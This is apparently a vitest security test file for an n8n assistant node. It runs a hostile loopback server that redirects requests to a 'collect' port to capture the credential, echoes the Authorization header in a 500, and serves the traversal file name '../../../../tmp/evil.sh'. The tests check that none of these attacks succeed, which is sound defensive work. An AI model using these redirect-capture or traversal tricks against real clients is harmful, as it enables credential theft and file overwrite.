// A hostile server (or anything on the path) in front of a real emulator, on 127.0.0.1: it redirects to a
// second loopback port that records what it receives, echoes the Authorization header in a 500, and hands
// out file names that climb out of any folder. The helper stand-in follows redirects the way n8n's does
// (credential re-added on every hop) unless the transport tells it not to.
import type { RunningEmulator } from '@f7cloud/assistant-emulator';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { NodeApiError } from 'n8n-workflow';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { F7CloudAssistant } from '../nodes/F7CloudAssistant/F7CloudAssistant.node.js';
import { MAX_REDIRECTS } from '../nodes/F7CloudAssistant/transport/n8n-transport.js';
import { createContext } from './support/context.js';
import { CANARY, emulator } from './support/run-node.js';

type Mode = 'proxy' | 'redirect-away' | 'redirect-same' | 'redirect-loop' | 'echo' | 'evil-name';

let emu: RunningEmulator;
let hostile: http.Server;
let other: http.Server;
let hostileUrl: string;
let otherUrl: string;
let mode: Mode = 'proxy';
const reachedOther: http.IncomingHttpHeaders[] = [];
const FORMS = [CANARY, `alice:${CANARY}`, Buffer.from(`alice:${CANARY}`).toString('base64')];

async function listen(server: http.Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function readBody(req: http.IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

/** Forwards to the emulator as it is (path prefix /moved stripped). */
async function proxy(req: http.IncomingMessage, res: http.ServerResponse, body: Buffer) {
  const headers = new Headers();
  for (const [name, value] of Object.entries(req.headers)) {
    if (value !== undefined && !['host', 'connection', 'content-length'].includes(name))
      headers.set(name, Array.isArray(value) ? value.join(', ') : value);
  }
  const answer = await fetch(emu.url + (req.url ?? '/').replace(/^\/moved/, ''), {
    method: req.method ?? 'GET',
    headers,
    ...(body.length > 0 ? { body: new Uint8Array(body) } : {}),
  });
  const out: Record<string, string> = {};
  answer.headers.forEach((value, name) => {
    if (!['content-length', 'content-encoding', 'transfer-encoding', 'connection'].includes(name))
      out[name] = value;
  });
  if (mode === 'evil-name' && out['content-disposition'])
    out['content-disposition'] = 'attachment; filename="../../../../tmp/evil.sh"';
  res.writeHead(answer.status, out).end(Buffer.from(await answer.arrayBuffer()));
}

beforeAll(async () => {
  emu = await emulator();
  other = http.createServer((req, res) => {
    reachedOther.push(req.headers);
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"stolen":true}');
  });
  otherUrl = await listen(other);
  hostile = http.createServer((req, res) => {
    void readBody(req).then(async (body) => {
      const path = req.url ?? '/';
      if (mode === 'redirect-away') {
        res.writeHead(302, { location: `${otherUrl}/collect${path}` }).end();
      } else if (mode === 'redirect-same' && !path.startsWith('/moved')) {
        // 307 keeps method and body, as a server moved under a prefix would answer
        res.writeHead(307, { location: `/moved${path}` }).end();
      } else if (mode === 'redirect-loop') {
        res.writeHead(302, { location: `/loop${Math.random()}` }).end();
      } else if (mode === 'echo') {
        const auth = String(req.headers.authorization ?? '');
        const decoded = Buffer.from(auth.replace(/^Basic /, ''), 'base64').toString();
        res.writeHead(500, { 'content-type': 'application/json' }).end(
          JSON.stringify({
            ocs: {
              meta: { status: 'failure', statuscode: 500, message: `proxy saw ${auth} (${decoded})` },
              data: { headers: req.headers, decoded },
            },
          }),
        );
      } else {
        await proxy(req, res, body);
      }
    });
  });
  hostileUrl = await listen(hostile);
});

afterAll(async () => {
  await new Promise((r) => hostile?.close(r));
  await new Promise((r) => other?.close(r));
  await emu?.close();
});

beforeEach(() => {
  mode = 'proxy';
  reachedOther.length = 0;
});

async function run(parameters: Record<string, unknown>, continueOnFail = false) {
  const fake = createContext({
    parameters,
    credentials: { serverUrl: hostileUrl, user: 'alice', appPassword: CANARY },
    continueOnFail,
  });
  const outcome = await new F7CloudAssistant().execute.call(fake.context).then(
    (output) => ({ output, error: undefined }),
    (error: unknown) => ({ output: undefined, error: error as NodeApiError }),
  );
  return { ...fake, ...outcome };
}

/** Everything n8n would keep of a failed run: message, description, serialised error, stack, inspect. */
function everything(error: unknown, extra: unknown = {}): string {
  const e = error as Error & { description?: unknown; cause?: unknown };
  return [
    e?.message,
    String(e?.description),
    JSON.stringify(e),
    JSON.stringify(e?.cause ?? {}),
    e?.stack,
    inspect(e, { depth: 8, showHidden: true }),
    JSON.stringify(extra),
  ].join('\n');
}

const getTypes = { resource: 'task', operation: 'getTypes', simplify: true };
const schedule = {
  resource: 'task',
  operation: 'run',
  taskType: 'core:text2text',
  inputs: { mappingMode: 'defineBelow', value: { input: 'Hello' } },
  waitMode: 'noWait',
  options: {},
};

/** Under scripts/canary.mjs: what the user and the other host saw, for the canary's own search. */
function exportForCanary(name: string, value: unknown): void {
  const dir = process.env.F7CLOUD_CANARY_ARTIFACTS;
  if (dir)
    writeFileSync(join(dir, `${name}.json`), typeof value === 'string' ? value : JSON.stringify(value));
}

describe('a hostile server cannot take the credential elsewhere', () => {
  it('a redirect to another port is not followed: that server receives nothing, the error names it', async () => {
    mode = 'redirect-away';
    const { error, requests } = await run(getTypes);
    exportForCanary('n8n-redirect-other-host', { reachedOther, error: everything(error) });
    expect(reachedOther).toEqual([]);
    expect(error).toBeInstanceOf(NodeApiError);
    const otherHost = new URL(otherUrl).host;
    expect(error?.message).toContain(`to ${otherHost}`);
    expect(error?.message).toContain('nothing was sent there');
    expect(error?.description).toContain(`If ${otherUrl} is your server's real address`);
    // n8n's helper was told not to follow, and not to take the credential along if it did
    expect(requests.every((r) => r.disableFollowRedirect === true)).toBe(true);
    expect(requests.every((r) => r.sendCredentialsOnCrossOriginRedirect === false)).toBe(true);
    // refused, not retried: one request reached the hostile server
    expect(requests).toHaveLength(1);
    for (const form of FORMS) expect(everything(error)).not.toContain(form);
  });

  it('a redirect of a POST elsewhere is refused too, with the error item under Continue', async () => {
    mode = 'redirect-away';
    const { output, error } = await run(schedule, true);
    expect(error).toBeUndefined();
    expect(reachedOther).toEqual([]);
    const [item] = output?.[0] ?? [];
    expect(String(item?.json.error)).toContain(new URL(otherUrl).host);
    expect(item?.pairedItem).toEqual({ item: 0 });
  });

  it('follows same-origin redirects itself, keeping a POST and its body (307)', async () => {
    mode = 'redirect-same';
    const types = await run(getTypes);
    expect(types.error).toBeUndefined();
    expect(types.output?.[0]?.map((i) => i.json.id)).toContain('core:text2text');
    const scheduled = await run(schedule);
    expect(scheduled.error).toBeUndefined();
    const taskId = scheduled.output?.[0]?.[0]?.json.taskId;
    expect(emu.control.tasks().find((t) => t.id === taskId)?.input).toMatchObject({ input: 'Hello' });
    const posts = scheduled.requests.filter((r) => r.method === 'POST');
    expect(posts.map((r) => new URL(r.url).pathname.startsWith('/moved'))).toEqual([false, true]);
    expect(posts[1]?.body).toEqual(posts[0]?.body);
  });

  it(`stops after ${MAX_REDIRECTS} same-origin redirects with an error that says so`, async () => {
    mode = 'redirect-loop';
    const { error, requests } = await run(getTypes);
    expect(requests).toHaveLength(MAX_REDIRECTS + 1);
    expect(error?.message).toContain(`more than ${MAX_REDIRECTS} times`);
  });

  it('a 500 that echoes the Authorization header shows no secret: error, item, hints, requests', async () => {
    mode = 'echo';
    for (const continueOnFail of [false, true]) {
      for (const parameters of [getTypes, schedule]) {
        const { error, output, hints, requests } = await run(parameters, continueOnFail);
        if (continueOnFail) {
          expect(String(output?.[0]?.[0]?.json.error)).toMatch(/\S/);
        } else {
          expect(error).toBeInstanceOf(NodeApiError);
          expect((error as NodeApiError).httpCode).toBe('500');
        }
        const kept = everything(error, { output, hints, requests });
        exportForCanary(`n8n-echo-${continueOnFail ? 'continue' : 'error'}-${parameters.operation}`, kept);
        // the server's text does come through, redacted
        expect(kept).toContain('[redacted]');
        for (const form of FORMS) expect(kept).not.toContain(form);
      }
    }
    // reads are retried after a 5xx, with back-off
  }, 120_000);

  it('a file name that climbs out of its folder becomes a plain base name', async () => {
    mode = 'evil-name';
    const client = await import('@f7cloud/assistant-client/node');
    const direct = client.createNodeClient({
      baseUrl: emu.url,
      auth: { user: 'alice', appPassword: CANARY },
    });
    const { fileId } = await direct.files.uploadInput(new TextEncoder().encode('echo owned'), {
      filename: 'evil.sh',
    });
    const { output, error } = await run({
      resource: 'file',
      operation: 'download',
      fileId: String(fileId),
      binaryPropertyName: 'data',
    });
    expect(error).toBeUndefined();
    const [item] = output?.[0] ?? [];
    expect(item?.binary?.data?.fileName).toBe('evil.sh');
    expect(item?.json.fileName).toBe('evil.sh');
  });
});
